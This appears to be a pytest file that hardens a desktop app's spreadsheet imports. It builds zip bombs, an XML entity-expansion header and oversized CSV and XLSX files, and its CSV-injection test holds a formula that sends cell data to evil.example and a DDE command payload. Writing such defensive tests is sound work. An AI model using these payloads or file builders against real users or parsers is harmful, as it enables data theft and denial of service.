"""Hostile spreadsheets: files made to break the people and participant imports.

Every file is generated here. Each one must end in one clear sentence (never a traceback),
leave the database unchanged, and be refused within bounded memory: the imports run in a
child process whose address space is capped (so a regression fails instead of eating the
machine) and whose peak resident memory is asserted.
"""
from __future__ import annotations

import json
import os
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from desktop_app.cli import main as hamroh
from desktop_app.store.people.spreadsheet import import_people
from desktop_app.store.security.keys import key_without_login
from desktop_app.store.trainings import spreadsheet as ti
from tests.conftest import dump_of

PEAK_MB = 250              # resident memory of the child after every hostile file
ADDRESS_SPACE_GB = 3       # the child's cap, so that a regression fails without harm

HEADER = "Фамилия;Имя;Дата рождения\n"
PEOPLE = "".join(f"Рахмонов{i};Фарход;07.03.1991\n" for i in range(100))

# --- building files ----------------------------------------------------------------------
SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships"><sheets><sheet name="People" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlfor'
    'mats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/rela'
    'tionships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
    'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
    '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/'
    'worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    '</Types>')
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxml'
    'formats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    '</Relationships>')
TITLES = ('<row r="1"><c r="A1" t="inlineStr"><is><t>Family name</t></is></c>'
          '<c r="B1" t="inlineStr"><is><t>Given name</t></is></c></row>')


def _xlsx(path: Path, rows: str, *, shared: str | None = None, head: str = SHEET_HEAD,
          sheet_chunks=None) -> Path:
    """An XLSX written part by part (so that a part can be broken on purpose)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", CONTENT_TYPES)
        book.writestr("_rels/.rels", ROOT_RELS)
        book.writestr("xl/workbook.xml", WORKBOOK)
        book.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        sst = shared if shared is not None else (
            '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"></sst>')
        book.writestr("xl/sharedStrings.xml", sst)
        with book.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(f"{head}<sheetData>{TITLES}{rows}".encode())
            for chunk in sheet_chunks or ():
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return path


def _huge_shared_string(path: Path, megabytes: int) -> Path:
    """One shared string of ``megabytes`` MB (written in pieces) used by cell A2."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", CONTENT_TYPES)
        book.writestr("_rels/.rels", ROOT_RELS)
        book.writestr("xl/workbook.xml", WORKBOOK)
        book.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        with book.open("xl/sharedStrings.xml", "w") as sst:
            sst.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                      b"<si><t>")
            piece = b"A" * (1024 * 1024)
            for _ in range(megabytes):
                sst.write(piece)
            sst.write(b"</t></si></sst>")
        book.writestr("xl/worksheets/sheet1.xml", SHEET_HEAD + "<sheetData>" + TITLES
                      + '<row r="2"><c r="A2" t="s"><v>0</v></c><c r="B2" t="inlineStr"><is>'
                        "<t>Farhod</t></is></c></row></sheetData></worksheet>")
    return path


def _declare_size(path: Path, member: str, size: int) -> Path:
    """Rewrite the unpacked size a zip declares for ``member`` (a forged zip bomb)."""
    data = bytearray(path.read_bytes())
    name = member.encode()
    for signature, offset, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            length = struct.unpack_from("<H", data, start + name_at - (4 if signature ==
                                                                      b"PK\x03\x04" else 18))[0]
            if data[start + name_at:start + name_at + length] == name:
                struct.pack_into("<I", data, start + offset, size)
            start += 4
    path.write_bytes(bytes(data))
    return path


def _sparse(path: Path, size: int) -> Path:
    with open(path, "wb") as handle:
        handle.truncate(size)
    return path


def hostile_files(folder: Path) -> dict[str, tuple[Path, str]]:
    """name -> (file, part of the one sentence it must give)."""
    files: dict[str, tuple[Path, str]] = {}

    def add(name: str, path: Path, expected: str) -> None:
        files[name] = (path, expected)

    csv_big = folder / "huge.csv"
    _sparse(csv_big, 500 * 1024 * 1024)
    add("500 MB csv", csv_big, "at most 20 MB can be imported")
    long_cell = folder / "long-cell.csv"
    long_cell.write_text(HEADER + "Р" * 200_000 + ";Фарход;07.03.1991\n", encoding="utf-8")
    add("cell over 131,072 characters", long_cell,
        "Line 2: a cell is longer than 4000 characters")
    cell = folder / "cell.csv"
    cell.write_text(HEADER + "Р" * 5000 + ";Фарход;07.03.1991\n", encoding="utf-8")
    add("cell of 5,000 characters", cell, "Row 2, column A: the cell holds 5000 characters")
    wide = folder / "wide.csv"
    wide.write_text("Фамилия;Имя" + ";x" * 1_000_000 + "\n", encoding="utf-8")
    add("1M-column header", wide, "Row 1 has 1,000,002 columns; at most 256 can be read")
    binary = folder / "binary.csv"
    binary.write_bytes(bytes(range(256)) * 50 + b"\x00\x01\x02")
    add("binary data", binary, "not a CSV list")
    stray = folder / "stray.csv"
    data = (HEADER + PEOPLE).encode("utf-8")
    at = data.index("Рахмонов2;".encode())
    stray.write_bytes(data[:at + 4] + b"\xff" + data[at + 4:])
    add("UTF-8 with one stray byte", stray,
        "Row 4, column A (Фамилия): some characters are damaged")

    far = _xlsx(folder / "far.xlsx",
                '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    add("value in XFD1048576", far, "Cell XFD1048576 is outside the area that can be read")
    add("60 MB shared string", _huge_shared_string(folder / "shared.xlsx", 60),
        "Row 2, column A: the cell holds 62914560 characters")
    inline = _xlsx(folder / "inline.xlsx", '<row r="2"><c r="A2" t="inlineStr"><is><t>',
                   sheet_chunks=[b"B" * (1024 * 1024)] * 40 + [b"</t></is></c></row>"])
    add("40 MB inline cell", inline, "Row 2, column A: the cell is longer than 4000")
    formula = _xlsx(folder / "formula.xlsx",
                    '<row r="2"><c r="A2" t="inlineStr"><is><t>Karimov</t></is></c>'
                    '<c r="B2"><f>1/0)(</f><v>#DIV/0!</v></c></row>')
    add("malformed formula cell", formula, "could not be read as an Excel file")
    broken = _xlsx(folder / "broken.xlsx", '<row r="2"><c r="A2" t="inlineStr"><is><t>x</is>')
    add("malformed XML in the sheet", broken, "could not be read as an Excel file")
    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
              '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
    add("entity expansion", _xlsx(folder / "laughs.xlsx", "", head=laughs),
        "could not be read as an Excel file")
    bomb = _xlsx(folder / "bomb.xlsx", '<row r="2"><c r="A2"><v>1</v></c></row>')
    _declare_size(bomb, "xl/worksheets/sheet1.xml", 0xF0000000)
    add("zip bomb (declared 3.75 GB)", bomb, "unpacks to more than 100 MB")
    real_bomb = _xlsx(folder / "real-bomb.xlsx", "",
                      sheet_chunks=[b" " * (1024 * 1024)] * 120)
    add("zip bomb (120 MB of spaces)", real_bomb, "unpacks to more than 100 MB")
    not_zip = folder / "not-a-zip.xlsx"
    not_zip.write_bytes(b"PK\x03\x04" + os.urandom(2000))
    add("not a zip", not_zip, "could not be read as an Excel file")
    return files


CHILD = r"""
import json, resource, sys
gb = int(sys.argv[3])
resource.setrlimit(resource.RLIMIT_AS, (gb << 30, gb << 30))
from desktop_app.store.access import open_session
from desktop_app.store.people.spreadsheet import ImportFileError, import_people
from desktop_app.store.trainings import spreadsheet as ti
session = open_session(sys.argv[1], key=bytes.fromhex(sys.argv[2]))
out = {}
for name, path in json.loads(sys.stdin.read()).items():
    people, trainings = [], []
    try:
        result = import_people(session, path)
        people.append(f"imported={result.imported}")
        people += [e.message for e in result.errors]
    except ImportFileError as exc:
        people.append(str(exc))
    try:
        preview = ti.preview_file(session.conn, "no-event", path)
        trainings += [e for row in preview.rows for e in row.errors]
    except ti.ImportFileError as exc:
        trainings.append(str(exc))
    out[name] = {"people": people, "trainings": trainings}
session.conn.close()
out["peak_kb"] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps(out))
"""


def test_hostile_files_give_one_sentence_change_nothing_and_stay_small(db_path, tmp_path):
    files = hostile_files(tmp_path)
    before = dump_of(db_path)
    key = key_without_login(db_path)
    assert key is not None
    done = subprocess.run(
        [sys.executable, "-c", CHILD, str(db_path), key.hex(), str(ADDRESS_SPACE_GB)],
        input=json.dumps({name: str(path) for name, (path, _) in files.items()}),
        capture_output=True, text=True, cwd=Path(__file__).parents[2])
    assert done.returncode == 0, done.stderr[-3000:]
    out = json.loads(done.stdout.strip().splitlines()[-1])
    for name, (_path, expected) in files.items():
        people, trainings = out[name]["people"], out[name]["trainings"]
        assert not any(m.startswith("imported=") and m != "imported=0" for m in people)
        assert any(expected in m for m in people), (name, people)
        assert any(expected in m for m in trainings), (name, trainings)
        assert all("Traceback" not in m and len(m) < 400 for m in people + trainings), name
    assert out["peak_kb"] < PEAK_MB * 1024, out["peak_kb"]
    assert dump_of(db_path) == before


def test_a_million_column_header_is_one_line_on_the_terminal(db_path, tmp_path, capsys):
    wide = tmp_path / "wide.csv"
    wide.write_text("Фамилия;Имя" + ";x" * 1_000_000 + "\n", encoding="utf-8")
    assert hamroh(["people", "import", "--db", str(db_path), str(wide)]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "at most 256" in err[0]
    # many unknown columns within the bound: ten named, the rest counted
    some = tmp_path / "some.csv"
    some.write_text("Фамилия;Имя" + "".join(f";extra{i}" for i in range(200)) + "\n"
                    "Рахмонов;Фарход\n", encoding="utf-8")
    assert hamroh(["people", "import", "--db", str(db_path), str(some)]) == 0
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 11 and err[-1] == "190 more columns are not known and were ignored."


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "mac_cyrillic", "cp866",
                                      "koi8_r"])
def test_utf16_without_bom_and_old_code_pages_are_read_right(session, tmp_path, encoding):
    text = ("Фамилия;Имя;Отчество\nРахмонов;Фарход;Саидович\nКаримова;Зарина;Юсуповна\n"
            "Ёдгоров;Шухрат;Эргашевич\n")
    path = tmp_path / "people.csv"
    path.write_bytes(text.encode(encoding))
    result = import_people(session, path)
    assert result.imported == 3, [e.message for e in result.errors]
    names = session.conn.execute("SELECT family_name, given_name, patronymic FROM person "
                                 "ORDER BY family_name").fetchall()
    assert names == [("Ёдгоров", "Шухрат", "Эргашевич"), ("Каримова", "Зарина", "Юсуповна"),
                     ("Рахмонов", "Фарход", "Саидович")]
    preview = ti.preview_file(session.conn, "no-event", path)
    assert [r.name for r in preview.rows] == ["Рахмонов Фарход Саидович",
                                              "Каримова Зарина Юсуповна",
                                              "Ёдгоров Шухрат Эргашевич"]


def test_csv_injection_payloads_are_kept_as_text(session, tmp_path):
    payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=cmd|' /C calc'!A0",
                "-Rahmonov", "@Karimov", "+Saidov", "=1+2"]
    path = tmp_path / "inject.csv"
    path.write_text("family_name,given_name\n" + "".join(
        f'"{p.replace(chr(34), chr(34) * 2)}",Farhod\n' for p in payloads), encoding="utf-8")
    result = import_people(session, path)
    assert result.imported == len(payloads), [e.message for e in result.errors]
    stored = {r[0] for r in session.conn.execute("SELECT family_name FROM person")}
    assert stored == set(payloads)


def test_a_stated_dimension_is_not_trusted(session, tmp_path):
    """A sheet claiming A1:XFD1048576 with two real rows is read as two rows."""
    head = SHEET_HEAD + '<dimension ref="A1:XFD1048576"/>'
    path = _xlsx(tmp_path / "dimension.xlsx",
                 '<row r="2"><c r="A2" t="inlineStr"><is><t>Karimov</t></is></c>'
                 '<c r="B2" t="inlineStr"><is><t>Ali</t></is></c></row>', head=head)
    result = import_people(session, path)
    assert result.imported == 1 and result.errors == []


def test_an_ordinary_workbook_still_imports(session, tmp_path):
    book = Workbook()
    book.active.append(["Фамилия", "Имя", "Телефон"])
    book.active.append(["Рахмонов", "Фарход", "+992 93 555 12 34"])
    book.active.append(["Каримова", "Зарина", None])
    book.save(tmp_path / "ok.xlsx")
    result = import_people(session, tmp_path / "ok.xlsx")
    assert result.imported == 2, [e.message for e in result.errors]


@pytest.mark.parametrize("language,start", [("ru", "В строке 1 столбцов: {count}"),
                                            ("tg", "Сатри 1 {count} сутун дорад"),
                                            ("uz", "1-qatorda {count} ta ustun bor")])
def test_the_sentence_is_in_the_users_language(session, tmp_path, language, start):
    from desktop_app.i18n import format_number, set_language
    start = start.format(count=format_number(1_000_002, language))
    from desktop_app.store.people.spreadsheet import ImportFileError
    wide = tmp_path / "wide.csv"
    wide.write_text("Фамилия;Имя" + ";x" * 1_000_000 + "\n", encoding="utf-8")
    set_language(language)
    with pytest.raises(ImportFileError) as err:
        import_people(session, wide)
    assert str(err.value).startswith(start)
    with pytest.raises(ti.ImportFileError) as err:
        ti.preview_file(session.conn, "no-event", wide)
    assert str(err.value).startswith(start)


def test_a_pipe_or_a_folder_named_like_a_list_is_refused(session, tmp_path):
    from desktop_app.store.people.spreadsheet import ImportFileError
    pipe = tmp_path / "list.csv"
    os.mkfifo(pipe)           # opening it for reading would wait for a writer for ever
    folder = tmp_path / "list.xlsx"
    folder.mkdir()
    for path in (pipe, folder):
        with pytest.raises(ImportFileError, match="is not a file that can be imported"):
            import_people(session, path)
        with pytest.raises(ti.ImportFileError, match="is not a file that can be imported"):
            ti.preview_file(session.conn, "no-event", path)


def test_invisible_and_direction_characters_do_not_reach_the_register(session, tmp_path):
    """A right-to-left override shows "Rahmonov" as "vonomhaR" (and turns round the text
    printed after it: a phone on the same line); zero-width spaces, byte-order marks and
    control characters (a bell) hide in copied lists. None of them is kept; Uzbek oʻ and
    Persian-script joiners are."""
    rows = [("\u202eRahmonov", "Farhod\u200b"), ("Kari\ufeffmov", "Ali\u2066x\u2069"),
            ("Yoʻldoshev", "Ne\u200cmat"), ("Sai\x07dov", "\u200fZarina")]
    path = tmp_path / "invisible.csv"
    path.write_text("family_name,given_name\n" + "".join(f"{a},{b}\n" for a, b in rows),
                    encoding="utf-8")
    result = import_people(session, path)
    assert result.imported == len(rows), [e.message for e in result.errors]
    stored = {r for r in session.conn.execute("SELECT family_name, given_name FROM person")}
    assert stored == {("Rahmonov", "Farhod"), ("Karimov", "Alix"),
                      ("Yoʻldoshev", "Ne\u200cmat"), ("Saidov", "Zarina")}
